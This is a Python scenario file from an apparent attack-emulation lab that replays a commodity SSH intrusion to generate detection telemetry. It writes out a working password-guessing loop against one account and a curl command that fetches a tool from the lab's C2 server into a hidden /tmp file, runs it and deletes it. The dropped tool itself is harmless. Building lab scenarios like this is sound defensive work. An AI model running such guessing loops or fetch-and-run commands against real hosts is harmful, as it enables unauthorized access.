"""SSH password guessing against a weak account, then a tool dropped through the login.

Modelled on the commodity intrusions that SSH honeypots see every day: from their own
machine the attackers guess passwords for one account over many connections until one
logs in, then fetch a tool from their server over the login and run it. Recorded with the
host's journal beside the kernel sensor, so the investigation can start at the login (the
account, the source address, the failed guesses before it).

The lab's second host stands for this machine's SSH service: its sshd takes passwords and
logs to the journal in this scenario (``host_logs``); the attacker's SSH client runs in the
C2 server's namespace, so it is the attacker's machine, not a process of the victim.
"""

from __future__ import annotations

import shlex

from provarmor.lab import techniques as t
from provarmor.lab.context import LabContext
from provarmor.lab.scenario import Action, Channel, Payload, Plan, Scenario, SetupFile, StepSpec

WRONG_GUESSES = ("123456", "password", "admin", "qwerty", "letmein", "welcome", "changeme")
"""Tried first, each on its own connection (more than the brute-force rule's threshold)."""
WEAK_PASSWORDS = ("Summer2026!", "Welcome123", "Passw0rd1", "Company2026")
"""The throwaway account's password is one of these; the attacker's list ends with it."""

STEPS = (
    StepSpec(
        name="brute-force",
        summary="From the attacker's machine, one password guess per SSH connection against "
        "one account until a guess logs in.",
        techniques=(t.PASSWORD_GUESSING, t.SSH, t.LOCAL_ACCOUNTS),
    ),
    StepSpec(
        name="drop-tool",
        summary="Over the login the guess opened, the attacker downloads a tool from its "
        "server into a hidden file in /tmp, runs it and deletes it.",
        techniques=(
            t.INGRESS_TRANSFER,
            t.UNIX_SHELL,
            t.HIDDEN_FILES,
            t.SYSTEM_INFO,
            t.FILE_DELETION,
        ),
    ),
)


def _ssh(ctx: LabContext, user: str, askpass: str, password: str, command: str) -> str:
    """Shell (run on the attacker's machine) for a password login that runs ``command``.

    The first login that succeeds stays open in the background (an OpenSSH control master),
    and later commands go over it: one login, as tools that guess and then work keep it."""
    client = f"{ctx.run_dir}/c2/ssh"
    options = (
        "-n -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR "
        "-o ConnectTimeout=5 -o PubkeyAuthentication=no -o PreferredAuthentications=password "
        f"-o NumberOfPasswordPrompts=1 -o ControlMaster=auto -o ControlPath={client}-%C "
        f"-o ControlPersist=120 -E {client}.log"
    )
    return (
        f"GUESS={password} SSH_ASKPASS={askpass} SSH_ASKPASS_REQUIRE=force DISPLAY=:0 "
        f"ssh {options} {user}@{ctx.address('host2')} {shlex.quote(command)}"
    )


def plan(ctx: LabContext) -> Plan:
    user = ctx.names.user("svc")
    password = ctx.names.pick(WEAK_PASSWORDS)
    askpass = f"{ctx.run_dir}/c2/askpass"
    tool = Payload(
        path=f"/{ctx.names.token(5)}/{ctx.names.pick(('sysinfo', 'check', 'hostscan'))}",
        content="#!/bin/sh\n# the lab's harmless tool: reports the host it runs on\n"
        "uname -a\nid\nhostname\nls /home\n",
    )
    dropped = f"/tmp/{ctx.names.hidden()}"  # noqa: S108  (where such tools are dropped)
    guesses = " ".join(shlex.quote(guess) for guess in (*WRONG_GUESSES, password))
    guess_loop = (
        f"for p in {guesses}; do "
        + _ssh(ctx, user, askpass, '"$p"', "id")
        + ' && echo "password: $p" && break; done'
    )
    fetch_and_run = (
        f"curl -s -o {dropped} {ctx.payload_url(tool.path)} && chmod 755 {dropped} && "
        f"{dropped} && rm -f {dropped}"
    )
    return Plan(
        setup_files=(SetupFile(path=askpass, content='#!/bin/sh\necho "$GUESS"\n', mode=0o700),),
        setup_commands=(
            ("useradd", "--create-home", "--shell", "/bin/bash", user),
            ("sh", "-c", f"echo {shlex.quote(f'{user}:{password}')} | chpasswd"),
        ),
        payloads=(tool,),
        accounts=(user,),
        actions=(
            Action(
                step="brute-force",
                channel=Channel.REMOTE,
                command=guess_loop,
                lateral_to="host2",
                timeout=120,
            ),
            Action(
                step="drop-tool",
                channel=Channel.REMOTE,
                command=_ssh(ctx, user, askpass, shlex.quote(password), fetch_and_run),
                lateral_to="host2",
                timeout=30,
            ),
        ),
        artifacts=(dropped,),
    )


SCENARIO = Scenario(
    name="ssh-brute-force",
    title="SSH password guessing, a login with the guessed password, a dropped tool",
    modelled_on="Commodity SSH brute-force intrusions (as SSH honeypots record them): "
    "password guessing against one account, then a downloaded tool run over the login",
    description=(
        "From its own machine the attacker tries common passwords for one account of the "
        "SSH server, one guess per connection, until the account's weak password logs in. "
        "Over that login it downloads a tool from its server into a hidden file in /tmp, "
        "runs it and deletes it."
    ),
    root_cause=(
        "The SSH login of the weak-password account from the attacker's address, after the "
        "failed guesses before it; everything that login's sshd session started is the "
        "attacker's."
    ),
    steps=STEPS,
    host_logs=True,
    plan=plan,
)
